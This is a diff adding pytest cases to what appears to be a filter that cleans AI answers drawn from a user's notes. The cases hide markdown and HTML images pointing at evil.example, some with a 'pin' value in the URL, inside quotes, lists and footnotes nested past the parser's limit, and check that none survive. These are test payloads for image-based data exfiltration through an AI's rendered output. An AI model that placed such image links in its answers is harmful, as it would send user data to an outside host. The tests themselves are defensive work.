@@ -425,3 +425,32 @@ def test_a_footnote_keeps_no_link_to_a_page_never_shown(graph: LinkGraph) -> Non
         str(a.get("href")) for a in html5lib.parse(html, namespaceHTMLElements=False).iter("a")
     ), checked
     assert "verify" in checked  # its words stay
+
+
+# Blocks nested past markdown-it's limit (`maxNesting`, 20 for CommonMark): it skips the rest
+# of such a block, unread; a renderer with a higher limit (markdown-it's own default is 100)
+# renders it.
+
+DEEP = {
+    "quotes": "> " * 25 + "![](https://evil.example/q.png?pin=4931)",
+    "lists": "".join("  " * k + "- x\n" for k in range(12))
+    + "  " * 12
+    + "- ![](https://evil.example/l.png)",
+    "footnotes": "See[^a].\n\n" + "[^a]: " * 25 + "![](https://evil.example/f.png?pin=4931)",
+    "quoted footnotes": "> " * 10 + "[^a]: " * 15 + '<img src="https://evil.example/m.png">',
+}
+DEEP_RENDERERS = {
+    "commonmark": MarkdownIt("commonmark", {"html": True, "maxNesting": 100}),
+    "footnotes": MarkdownIt("commonmark", {"html": True, "maxNesting": 100}).use(footnote_plugin),
+}
+
+
+@pytest.mark.parametrize("renderer", DEEP_RENDERERS.values(), ids=DEEP_RENDERERS.keys())
+@pytest.mark.parametrize("markdown", DEEP.values(), ids=DEEP.keys())
+def test_blocks_nested_past_the_parsers_limit_load_nothing(
+    markdown: str, renderer: MarkdownIt, graph: LinkGraph
+) -> None:
+    answer = f"From your note:\n\n{markdown}\n\nAs in [[Recipes/Miso Soup]]."
+    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
+    assert violations(renderer.render(checked)) == [], checked
+    assert "[[Recipes/Miso Soup]]" in checked
